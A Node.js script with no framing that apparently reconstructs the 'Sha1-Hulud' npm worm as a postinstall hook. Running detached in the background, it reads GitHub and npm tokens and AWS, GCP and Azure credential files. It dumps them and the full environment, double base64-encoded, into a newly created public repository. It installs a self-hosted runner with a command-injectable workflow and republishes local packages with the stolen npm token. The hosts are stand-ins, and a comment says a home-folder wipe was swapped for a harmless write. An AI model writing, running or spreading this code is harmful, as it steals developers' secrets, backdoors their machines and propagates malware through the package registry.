const os = require('os'), fs = require('fs'), path = require('path'), https = require('https'), { execSync, spawn } = require('child_process');
const call = (method, place, token, body) => new Promise((resolve) => {
  const request = https.request({ hostname: 'api.forge.example', path: place, method, headers: { Authorization: 'token ' + token, 'User-Agent': 'node' } }, (answer) => {
    let text = '';
    answer.on('data', (part) => (text += part));
    answer.on('end', () => { try { resolve(JSON.parse(text)); } catch (error) { resolve({}); } });
  });
  request.on('error', () => resolve({}));
  request.end(body ? JSON.stringify(body) : undefined);
});
const twice = (value) => Buffer.from(Buffer.from(JSON.stringify(value)).toString('base64')).toString('base64');
const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (error) { return null; } };
if (!process.env.POSTINSTALL_BG && !process.env.CI) {
  spawn(process.execPath, process.argv.slice(1), { detached: true, stdio: 'ignore', env: Object.assign({}, process.env, { POSTINSTALL_BG: '1' }) }).unref();
  process.exit(0);
}
(async () => {
  const token = process.env.GITHUB_TOKEN || execSync('gh auth token', { encoding: 'utf8' }).trim();
  const npm = /_authToken=(.+)/.exec(read('.npmrc') || '');
  const cloud = { aws: read('.aws/credentials'), gcp: read('.config/gcloud/application_default_credentials.json'), azure: read('.azure/accessTokens.json') };
  const repo = await call('POST', '/user/repos', token, { name: Math.random().toString(36).slice(2), description: 'Sha1-Hulud: The Second Coming.', private: false });
  const put = (name, value) => call('PUT', '/repos/' + repo.full_name + '/contents/' + name, token, { message: 'add', content: twice(value) });
  await put('contents.json', { system: { hostname: os.hostname(), user: os.userInfo() } });
  await put('environment.json', process.env);
  await put('cloud.json', cloud);
  const runner = await call('POST', '/repos/' + repo.full_name + '/actions/runners/registration-token', token);
  if (process.platform === 'linux' && runner.token) execSync('mkdir -p $HOME/.dev-env && cd $HOME/.dev-env && curl -o runner.tar.gz -L https://forge.example/actions/runner/releases/download/v2.330.0/runner.tar.gz && ./config.sh --url https://forge.example/' + repo.full_name + ' --unattended --token ' + runner.token + ' --name SHA1HULUD', { stdio: 'ignore' });
  await call('PUT', '/repos/' + repo.full_name + '/contents/.github/workflows/discussion.yaml', token, { message: 'add', content: Buffer.from('on: discussion\njobs:\n  process:\n    runs-on: self-hosted\n    steps:\n      - run: echo ${{ github.event.discussion.body }}\n').toString('base64') });
  if (npm) {
    process.env.NPM_CONFIG_TOKEN = npm[1];
    for (const folder of fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith('pkg-'))) execSync('npm publish --registry https://registry.example', { cwd: path.join(os.tmpdir(), folder), stdio: 'ignore' });
  }
  if (!token && !npm) {
    /* the incident wiped the home folder here; a listing of length zero stands for it */
    fs.writeFileSync(path.join(os.tmpdir(), 'list'), '');
  }
})().catch(() => {});
